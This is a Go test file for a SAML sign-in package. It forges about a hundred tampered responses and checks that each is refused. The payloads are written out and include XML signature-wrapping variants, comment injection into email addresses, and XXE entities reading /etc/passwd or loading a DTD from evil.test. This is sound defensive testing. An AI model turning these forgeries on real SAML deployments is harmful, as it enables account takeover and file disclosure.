// SPDX-FileCopyrightText: The crmgate authors
// SPDX-License-Identifier: Apache-2.0

package saml

import (
	"bytes"
	"encoding/base64"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/beevik/etree"
)

const evil = "admin@example.test"

// honest is an answer signed by the provider over the whole response or over the
// assertion, for the forger to start from.
func honest(t testing.TB, request string, whole bool) *etree.Element {
	root := newAnswer(request).tree(t)
	if whole {
		sign(t, root, signing{})
	} else {
		sign(t, assertionOf(root), signing{})
	}
	return root
}

// tampered is a copy of an assertion or response that names somebody else, with
// another ID when one is given.
func tampered(t testing.TB, el *etree.Element, id string) *etree.Element {
	s := strings.NewReplacer("Sally@Example.test", evil, "sally@example.test", evil).Replace(string(write(t, el.Copy())))
	out := tree(t, s)
	if id != "" {
		out.CreateAttr("ID", id)
		if a := assertionOf(out); a != nil {
			a.CreateAttr("ID", id+"a")
		}
	}
	return out
}

func unsign(el *etree.Element) *etree.Element {
	if s := signatureOf(el); s != nil {
		el.RemoveChild(s)
		return s
	}
	return nil
}

// forgeries start from a really signed answer to the request and return what is
// presented. The name of each is what is tried.
var forgeries = []struct {
	name  string
	forge func(t testing.TB, request string) []byte
}{
	{"unsigned", func(t testing.TB, q string) []byte { return write(t, newAnswer(q).tree(t)) }},
	{"signature removed, from the response", func(t testing.TB, q string) []byte {
		r := honest(t, q, true)
		unsign(r)
		return write(t, r)
	}},
	{"XSW1: forged response around, original in the signature", func(t testing.TB, q string) []byte {
		orig := honest(t, q, true)
		forged := tampered(t, orig, "_evil")
		sig := signatureOf(forged)
		unsign(orig)
		sig.AddChild(orig)
		return write(t, forged)
	}},
	{"XSW2: forged response around, original beside its detached signature", func(t testing.TB, q string) []byte {
		orig := honest(t, q, true)
		forged := tampered(t, orig, "_evil")
		sig := signatureOf(forged)
		unsign(orig)
		forged.InsertChildAt(sig.Index(), orig)
		return write(t, forged)
	}},
	{"XSW3: forged assertion before the original", func(t testing.TB, q string) []byte {
		r := honest(t, q, false)
		forged := tampered(t, detached(t, assertionOf(r)), "_evil")
		unsign(forged)
		r.InsertChildAt(assertionOf(r).Index(), forged)
		return write(t, r)
	}},
	{"XSW4: original inside the forged assertion", func(t testing.TB, q string) []byte {
		r := honest(t, q, false)
		orig := assertionOf(r)
		forged := tampered(t, detached(t, orig), "_evil")
		unsign(forged)
		r.RemoveChild(orig)
		forged.AddChild(detached(t, orig))
		r.AddChild(forged)
		return write(t, r)
	}},
	{"XSW5: forged assertion carries the signature, original at the end", func(t testing.TB, q string) []byte {
		r := honest(t, q, false)
		orig := assertionOf(r)
		forged := tampered(t, detached(t, orig), "_evil")
		unsign(orig)
		r.InsertChildAt(orig.Index(), forged)
		return write(t, r)
	}},
	{"XSW6: forged assertion, original in its signature", func(t testing.TB, q string) []byte {
		r := honest(t, q, false)
		orig := assertionOf(r)
		forged := tampered(t, detached(t, orig), "_evil")
		unsign(orig)
		r.RemoveChild(orig)
		signatureOf(forged).AddChild(orig)
		r.AddChild(forged)
		return write(t, r)
	}},
	{"XSW7: forged assertion in extensions", func(t testing.TB, q string) []byte {
		r := honest(t, q, false)
		forged := tampered(t, detached(t, assertionOf(r)), "")
		unsign(forged)
		ext := etree.NewElement("samlp:Extensions")
		ext.AddChild(forged)
		r.InsertChildAt(assertionOf(r).Index(), ext)
		return write(t, r)
	}},
	{"XSW8: original in an object of the forged assertion's signature", func(t testing.TB, q string) []byte {
		r := honest(t, q, false)
		orig := assertionOf(r)
		forged := tampered(t, detached(t, orig), "")
		unsign(orig)
		r.RemoveChild(orig)
		obj := etree.NewElement("ds:Object")
		obj.AddChild(orig)
		signatureOf(forged).AddChild(obj)
		r.AddChild(forged)
		return write(t, r)
	}},
	{"XSW: wrapped in an element of another namespace", func(t testing.TB, q string) []byte {
		r := honest(t, q, false)
		orig := assertionOf(r)
		forged := tampered(t, detached(t, orig), "_evil")
		unsign(forged)
		r.RemoveChild(orig)
		x := etree.NewElement("x:Wrap")
		x.CreateAttr("xmlns:x", "urn:x")
		x.AddChild(orig)
		r.AddChild(forged)
		r.AddChild(x)
		return write(t, r)
	}},
	{"forged assertion beside an encrypted original", func(t testing.TB, q string) []byte {
		r := honest(t, q, false)
		forged := tampered(t, detached(t, assertionOf(r)), "_evil")
		unsign(forged)
		encrypt(t, r, standardEncryption)
		r.AddChild(forged)
		return write(t, r)
	}},
	{"encrypted and signed by nobody", func(t testing.TB, q string) []byte {
		r := newAnswer(q).tree(t)
		encrypt(t, r, standardEncryption)
		return write(t, r)
	}},
	{"encrypted assertion swapped in a signed response", func(t testing.TB, q string) []byte {
		r := newAnswer(q).tree(t)
		encrypt(t, r, standardEncryption)
		sign(t, r, signing{})
		other := tampered(t, newAnswer(q).tree(t), "_other")
		encrypt(t, other, standardEncryption)
		old := one(r, nsAssertion, "EncryptedAssertion")
		i := old.Index()
		r.RemoveChild(old)
		r.InsertChildAt(i, one(other, nsAssertion, "EncryptedAssertion"))
		return write(t, r)
	}},
	{"encrypted with RSA 1.5", func(t testing.TB, q string) []byte {
		r := honest(t, q, false)
		encrypt(t, r, encryption{content: nsEncrypt + "aes256-cbc", wrap: nsEncrypt + "rsa-1_5"})
		return write(t, r)
	}},
	{"encrypted with 3DES", func(t testing.TB, q string) []byte {
		r := honest(t, q, false)
		encrypt(t, r, standardEncryption)
		return bytes.ReplaceAll(write(t, r), []byte("aes256-cbc"), []byte("tripledes-cbc"))
	}},
	{"ciphertext cut short", func(t testing.TB, q string) []byte {
		r := honest(t, q, false)
		encrypt(t, r, encryption{content: nsEncrypt11 + "aes128-gcm", wrap: nsEncrypt + "rsa-oaep-mgf1p"})
		one(one(one(one(r, nsAssertion, "EncryptedAssertion"), nsEncrypt, "EncryptedData"), nsEncrypt, "CipherData"), nsEncrypt, "CipherValue").SetText("AAAA")
		return write(t, r)
	}},
	{"partly signed: response signed, assertion swapped", func(t testing.TB, q string) []byte {
		r := honest(t, q, true)
		old := assertionOf(r)
		forged := tampered(t, detached(t, old), "")
		r.RemoveChild(old)
		r.AddChild(forged)
		return write(t, r)
	}},
	{"partly signed: assertion signed with other content", func(t testing.TB, q string) []byte {
		return []byte(strings.ReplaceAll(string(write(t, honest(t, q, false))), "Sally@Example.test", evil))
	}},
	{"partly signed: response well signed, assertion's own signature broken", func(t testing.TB, q string) []byte {
		r := newAnswer(q).tree(t)
		a := assertionOf(r)
		sign(t, a, signing{})
		a.CreateAttr("Changed", "x")
		sign(t, r, signing{})
		return write(t, r)
	}},
	{"partly signed: assertion well signed, response's own signature broken", func(t testing.TB, q string) []byte {
		r := newAnswer(q).tree(t)
		sign(t, r, signing{})
		r.CreateAttr("Consent", "x")
		sign(t, assertionOf(r), signing{})
		return write(t, r)
	}},
	{"several assertions, both well signed", func(t testing.TB, q string) []byte {
		r := honest(t, q, false)
		a := newAnswer(q)
		a.AssertionID = "_second"
		second := a.tree(t)
		sign(t, assertionOf(second), signing{})
		r.AddChild(detached(t, assertionOf(second)))
		return write(t, r)
	}},
	{"no assertion", func(t testing.TB, q string) []byte {
		r := newAnswer(q).tree(t)
		r.RemoveChild(assertionOf(r))
		sign(t, r, signing{})
		return write(t, r)
	}},
	{"signature by an unknown key", forgedSigning(signing{by: attacker})},
	{"KeyInfo with the attacker's certificate", forgedSigning(signing{by: attacker, cert: attacker})},
	{"KeyInfo with the provider's certificate, signed by another key", forgedSigning(signing{by: attacker, cert: theIDP})},
	{"unknown key, no KeyInfo", forgedSigning(signing{by: attacker, noKeyInfo: true})},
	{"SHA-1 signature", forgedSigning(signing{method: "http://www.w3.org/2000/09/xmldsig#rsa-sha1"})},
	{"SHA-1 digest", forgedSigning(signing{digest: "http://www.w3.org/2000/09/xmldsig#sha1"})},
	{"SHA-1 both", forgedSigning(signing{method: "http://www.w3.org/2000/09/xmldsig#rsa-sha1", digest: "http://www.w3.org/2000/09/xmldsig#sha1"})},
	{"empty signature reference", forgedSigning(signing{uri: new("")})},
	{"reference to nothing", forgedSigning(signing{uri: new("#")})},
	{"reference by XPointer", forgedSigning(signing{uri: new("#xpointer(/)")})},
	{"reference to another document", forgedSigning(signing{uri: new("https://evil.test/signed.xml")})},
	{"two references", forgedSigning(signing{secondReference: true})},
	{"object in the signature", forgedSigning(signing{object: `<ds:Object xmlns:ds="` + nsSignature + `"/>`})},
	{"transform: XSLT", forgedSigning(signing{transforms: `<ds:Transform Algorithm="` + enveloped + `"/><ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"><xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"/></ds:Transform><ds:Transform Algorithm="` + exclusive + `"/>`})},
	{"transform: XPath", forgedSigning(signing{transforms: `<ds:Transform Algorithm="` + enveloped + `"/><ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xpath-19991116"><ds:XPath>false()</ds:XPath></ds:Transform>`})},
	{"transform: base64", forgedSigning(signing{transforms: `<ds:Transform Algorithm="` + nsSignature + `base64"/><ds:Transform Algorithm="` + exclusive + `"/>`})},
	{"transform: none", forgedSigning(signing{transforms: " "})},
	{"transform: enveloped alone", forgedSigning(signing{transforms: `<ds:Transform Algorithm="` + enveloped + `"/>`})},
	{"transform: with comments", forgedSigning(signing{transforms: `<ds:Transform Algorithm="` + enveloped + `"/><ds:Transform Algorithm="` + exclusive + `WithComments"/>`})},
	{"canonicalization: with comments", forgedSigning(signing{canonical: exclusive + "WithComments"})},
	{"two signatures", func(t testing.TB, q string) []byte {
		r := newAnswer(q).tree(t)
		sign(t, r, signing{by: attacker})
		sign(t, r, signing{})
		return write(t, r)
	}},
	{"signature value empty", replaced("</ds:SignedInfo><ds:SignatureValue>", "</ds:SignedInfo><ds:SignatureValue/><x>", "</ds:SignatureValue>", "</x>")},
	{"signature without SignedInfo", func(t testing.TB, q string) []byte {
		r := honest(t, q, false)
		s := signatureOf(assertionOf(r))
		s.RemoveChild(s.ChildElements()[0])
		return write(t, r)
	}},
	{"second SignedInfo", func(t testing.TB, q string) []byte {
		r := honest(t, q, false)
		s := signatureOf(assertionOf(r))
		s.InsertChildAt(0, s.ChildElements()[0].Copy())
		return write(t, r)
	}},
	{"comment in the address", replaced("Sally@Example.test", "Sally@<!-- -->Example.test")},
	{"comment injection: admin@x<!-- -->.evil", func(t testing.TB, q string) []byte {
		a := newAnswer(q)
		a.Attributes = attribute(ClaimEmail, "admin@example.test.evil.test")
		r := a.tree(t)
		sign(t, assertionOf(r), signing{})
		return bytes.ReplaceAll(write(t, r), []byte("admin@example.test.evil"), []byte("admin@example.test<!-- -->.evil"))
	}},
	{"comment in the name identifier", replaced(">sally@example.test<", ">sally@example.test<!---->.evil.test<")},
	{"CDATA in the address", replaced("Sally@Example.test", "<![CDATA[Sally@Example.test]]>")},
	{"processing instruction in the address", replaced("Sally@Example.test", "Sally@<?x y?>Example.test")},
	{"DTD", prefixed(`<!DOCTYPE Response>`)},
	{"DTD with an entity", prefixed(`<!DOCTYPE r [<!ENTITY e "admin@example.test">]>`)},
	{"XXE: file", prefixed(`<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]>`)},
	{"XXE: parameter entity", prefixed(`<!DOCTYPE r [<!ENTITY % e SYSTEM "http://evil.test/x.dtd"> %e;]>`)},
	{"XXE: XInclude", replaced("Sally@Example.test", `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>`)},
	{"billion laughs", prefixed(`<!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>`)},
	{"unknown entity", replaced("Sally@Example.test", "&admin;@example.test")},
	{"XML 1.1", prefixed(`<?xml version="1.1"?>`)},
	{"another encoding declared", prefixed(`<?xml version="1.0" encoding="UTF-7"?>`)},
	{"UTF-16", func(t testing.TB, q string) []byte {
		var b bytes.Buffer
		b.WriteString("\xff\xfe")
		for _, c := range write(t, honest(t, q, false)) {
			b.Write([]byte{c, 0})
		}
		return b.Bytes()
	}},
	{"NUL in the address", replaced("Sally@Example.test", "Sally@Example.test\x00")},
	{"duplicate attribute", replaced(` ID="_assertion"`, ` ID="_evil" ID="_assertion"`)},
	{"duplicate ID", func(t testing.TB, q string) []byte {
		r := newAnswer(q).tree(t)
		r.CreateAttr("ID", "_assertion")
		sign(t, assertionOf(r), signing{})
		return write(t, r)
	}},
	{"two kinds of ID on one element", replaced(` ID="_assertion"`, ` xml:id="_evil" ID="_assertion"`)},
	{"no ID", func(t testing.TB, q string) []byte {
		a := newAnswer(q)
		a.AssertionID = ""
		r := a.tree(t)
		assertionOf(r).RemoveAttr("ID")
		sign(t, assertionOf(r), signing{uri: new("")})
		return write(t, r)
	}},
	{"namespace prefix with a colon trick", replaced("<saml:Assertion ", "<saml:x:Assertion ", "</saml:Assertion>", "</saml:x:Assertion>")},
	{"two roots", func(t testing.TB, q string) []byte {
		b := write(t, honest(t, q, false))
		return append(b, tamperedBytes(b)...)
	}},
	{"huge input", func(t testing.TB, q string) []byte {
		a := newAnswer(q)
		a.Attributes += attribute("x", strings.Repeat("x", MaxMessage))
		r := a.tree(t)
		sign(t, r, signing{})
		return write(t, r)
	}},
	{"nested deep", replaced("Sally@Example.test", strings.Repeat("<x>", 5000)+strings.Repeat("</x>", 5000))},
	{"too many elements", replaced("Sally@Example.test", strings.Repeat("<x/>", 5000))},
	{"not XML", func(testing.TB, string) []byte { return []byte("SAMLResponse") }},
	{"empty", func(testing.TB, string) []byte { return nil }},
	{"an assertion without a response", func(t testing.TB, q string) []byte {
		return write(t, detached(t, assertionOf(honest(t, q, false))))
	}},

	{"wrong audience", changed(func(a *answer) { a.Audience = strings.ReplaceAll(a.Audience, audience, "https://other.test/metadata") })},
	{"no audience", changed(func(a *answer) { a.Audience = "" })},
	{"empty audience", changed(func(a *answer) { a.Audience = "<saml:AudienceRestriction/>" })},
	{"audience by prefix", changed(func(a *answer) { a.Audience = strings.ReplaceAll(a.Audience, audience, audience+"/x") })},
	{"a second restriction that excludes the gate", changed(func(a *answer) {
		a.Audience += "<saml:AudienceRestriction><saml:Audience>https://other.test</saml:Audience></saml:AudienceRestriction>"
	})},
	{"a condition nobody knows", changed(func(a *answer) { a.Conditions = `<x:Never xmlns:x="urn:x"/>` })},
	{"wrong recipient", changed(func(a *answer) { a.Recipient = "https://other.test/acs" })},
	{"no recipient", changed(func(a *answer) { a.Recipient = "" })},
	{"wrong destination", changed(func(a *answer) { a.Destination = "https://other.test/acs" })},
	{"no destination", changed(func(a *answer) { a.Destination = "" })},
	{"destination with a query", changed(func(a *answer) { a.Destination = acsURL + "?x" })},
	{"wrong issuer of the response", changed(func(a *answer) { a.Issuer = "https://evil.test" })},
	{"wrong issuer of the assertion", changed(func(a *answer) { a.AssertionIssuer = "https://evil.test" })},
	{"wrong InResponseTo of the response", changed(func(a *answer) { a.InResponseTo = "_other" })},
	{"no InResponseTo of the response", changed(func(a *answer) { a.InResponseTo = "" })},
	{"wrong InResponseTo of the assertion", changed(func(a *answer) { a.SubjectInResponseTo = "_other" })},
	{"no InResponseTo of the assertion", changed(func(a *answer) { a.SubjectInResponseTo = "" })},
	{"expired", changed(func(a *answer) { a.Until = at(-2 * time.Minute) })},
	{"without an end", changed(func(a *answer) { a.Until = "" })},
	{"not yet valid", changed(func(a *answer) { a.NotBefore = at(2 * time.Minute) })},
	{"issued in the future", changed(func(a *answer) { a.IssueInstant = at(2 * time.Minute) })},
	{"issued long ago", changed(func(a *answer) { a.IssueInstant = at(-time.Hour) })},
	{"no time at all", changed(func(a *answer) { a.IssueInstant = "soon" })},
	{"not a bearer", changed(func(a *answer) { a.Method = "urn:oasis:names:tc:SAML:2.0:cm:holder-of-key" })},
	{"signed in in the future", changed(func(a *answer) { a.AuthnInstant = at(time.Hour) })},
	{"advice with an assertion", changed(func(a *answer) { a.Extra = `<saml:Advice><saml:Assertion ID="_x"/></saml:Advice>` })},
	{"failed status", changed(func(a *answer) {
		a.Status = `<samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Responder"><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:AuthnFailed"/></samlp:StatusCode>`
	})},
	{"success inside of a failure", changed(func(a *answer) {
		a.Status = `<samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Responder"><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:StatusCode>`
	})},
}

func tamperedBytes(b []byte) []byte {
	return bytes.ReplaceAll(b, []byte("Sally@Example.test"), []byte(evil))
}

func forgedSigning(s signing) func(testing.TB, string) []byte {
	return func(t testing.TB, q string) []byte {
		r := newAnswer(q).tree(t)
		sign(t, assertionOf(r), s)
		return write(t, r)
	}
}

// replaced changes the text of an honest answer after it was signed.
func replaced(pairs ...string) func(testing.TB, string) []byte {
	return func(t testing.TB, q string) []byte {
		doc := string(write(t, honest(t, q, false)))
		out := strings.NewReplacer(pairs...).Replace(doc)
		if out == doc {
			t.Fatalf("%q is not in the answer: this forgery forges nothing", pairs[0])
		}
		return []byte(out)
	}
}

func prefixed(p string) func(testing.TB, string) []byte {
	return func(t testing.TB, q string) []byte { return append([]byte(p), write(t, honest(t, q, false))...) }
}

// changed is what the provider itself signed, for somebody or some time else.
func changed(change func(*answer)) func(testing.TB, string) []byte {
	return func(t testing.TB, q string) []byte {
		a := newAnswer(q)
		change(a)
		r := a.tree(t)
		sign(t, assertionOf(r), signing{})
		sign(t, r, signing{})
		return write(t, r)
	}
}

func TestForgeriesAreRefused(t *testing.T) {
	b := newBench(t, nil)
	seen := map[string]bool{}
	for _, f := range forgeries {
		if seen[f.name] {
			t.Errorf("%s is there twice", f.name)
		}
		seen[f.name] = true
		t.Run(f.name, func(t *testing.T) {
			data, request := b.begin(false)
			proof, err := b.finish(f.forge(t, request), data)
			if !denied(err) || proof.Email != "" {
				t.Errorf("an attacker signs in as %q: %v", proof.Email, err)
			}
			if err != nil && strings.ContainsAny(err.Error(), "\n\r") {
				t.Errorf("a forger writes lines into the log: %q", err)
			}
		})
	}
}

// The forgeries prove nothing when the forger's tools do not make what they are
// meant to: the same steps without the forgery have to sign in.
func TestForgersToolsWork(t *testing.T) {
	b := newBench(t, nil)
	for name, f := range map[string]func(testing.TB, string) []byte{
		"changed nothing": changed(func(a *answer) { a.ID, a.AssertionID = "_r1", "_a1" }),
		"signed as usual": func(t testing.TB, q string) []byte {
			a := newAnswer(q)
			a.ID, a.AssertionID = "_r2", "_a2"
			r := a.tree(t)
			sign(t, assertionOf(r), signing{})
			return write(t, r)
		},
		"declaration before": prefixed("<?xml version=\"1.0\" encoding=\"utf-8\"?>\n"),
	} {
		data, request := b.begin(false)
		if _, err := b.finish(f(t, request), data); err != nil {
			t.Errorf("%s: %v", name, err)
		}
	}
}

// The provider never proves a person whose address the signature does not cover,
// wherever in the document a byte is changed.
func TestChangedBytesAreRefusedOrHarmless(t *testing.T) {
	b := newBench(t, nil)
	_, request := b.begin(false)
	for _, whole := range []bool{true, false} {
		doc := write(t, honest(t, request, whole))
		for i := 0; i < len(doc); i += 7 { // the fuzzer goes on
			bad := bytes.Clone(doc)
			bad[i] ^= 1
			rd := &reader{acs: acsURL, audience: audience, issuer: idpName, request: request, now: start, skew: DefaultSkew, certs: b.p.idp.current.Load().certs, key: gateKey().key}
			a, err := rd.response(bad)
			if err != nil {
				continue
			}
			if e, err := a.email(b.p.cfg.EmailAttributes); err != nil || e != "sally@example.test" {
				t.Fatalf("byte %d changed: signed in as %q, %v", i, e, err)
			}
		}
	}
}

func TestFormTricksAreRefused(t *testing.T) {
	b := newBench(t, nil)
	data, request := b.begin(false)
	good := base64.StdEncoding.EncodeToString(write(t, honest(t, request, false)))
	get := httptest.NewRequest(http.MethodGet, acsURL+"?SAMLResponse="+url.QueryEscape(good), nil)
	query := answerRequest(url.Values{})
	query.URL.RawQuery = "SAMLResponse=" + url.QueryEscape(good)
	multi := answerRequest(url.Values{"SAMLResponse": {good}})
	multi.Header.Set("Content-Type", "text/plain")
	for name, r := range map[string]*http.Request{
		"by GET":                   get,
		"in the query of a POST":   query,
		"in another content type":  multi,
		"no base64":                answerRequest(url.Values{"SAMLResponse": {"%%%"}}),
		"response twice":           answerRequest(url.Values{"SAMLResponse": {good, good}}),
		"larger than the form":     answerRequest(url.Values{"SAMLResponse": {strings.Repeat("A", maxForm+1)}}),
		"by artifact":              answerRequest(url.Values{"SAMLart": {"AAQAAMh48/1oXIM+sDo7Dh2qMp1HM4IF5DaRNmDj6RdUmllwn9jJHyEgIi8="}}),
		"deflated as for redirect": answerRequest(url.Values{"SAMLResponse": {"fZFNT8MwDIb"}}),
	} {
		if _, err := b.p.Finish(t.Context(), b.env, r, data); !denied(err) {
			t.Errorf("%s: %v", name, err)
		}
	}
	if _, err := b.p.Finish(t.Context(), b.env, answerRequest(url.Values{"SAMLResponse": {good}}), data); err != nil {
		t.Errorf("the same answer in its place: %v", err)
	}
	if _, err := b.p.Finish(t.Context(), b.env, answerRequest(url.Values{"SAMLResponse": {good}}), []byte("x")); err == nil || denied(err) {
		t.Errorf("kept data that cannot be read must be an error, not a refusal: %v", err)
	}
}

func TestNobodySignsInWhileReplaysCannotBeRemembered(t *testing.T) {
	b := newBench(t, nil)
	data, request := b.begin(false)
	_ = b.env.State.Close()
	if p, err := b.finish(write(t, honest(t, request, false)), data); err == nil || denied(err) || p.Email != "" {
		t.Errorf("with the state store away: %+v, %v", p, err)
	}
}

func TestExpiredCertificateSignsNobodyIn(t *testing.T) {
	b := newBench(t, func(c *Config) { c.Metadata = tempFile(t, metadataOf(expired())) })
	data, request := b.begin(false)
	r := newAnswer(request).tree(t)
	sign(t, assertionOf(r), signing{by: expired})
	if _, err := b.finish(write(t, r), data); !denied(err) {
		t.Errorf("a key the provider gave up signs people in: %v", err)
	}
}

func TestDeniedDetailSaysWhatTheProviderSays(t *testing.T) {
	b := newBench(t, nil)
	data, request := b.begin(false)
	a := newAnswer(request)
	a.Status = `<samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Requester"><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:InvalidNameIDPolicy"/></samlp:StatusCode><samlp:StatusMessage>no&#10;such   format</samlp:StatusMessage>`
	r := a.tree(t)
	r.RemoveChild(assertionOf(r))
	_, err := b.finish(write(t, r), data)
	if !denied(err) || !strings.Contains(fmt.Sprint(err), "Requester, InvalidNameIDPolicy: no such") {
		t.Errorf("the operator reads %v", err)
	}
}
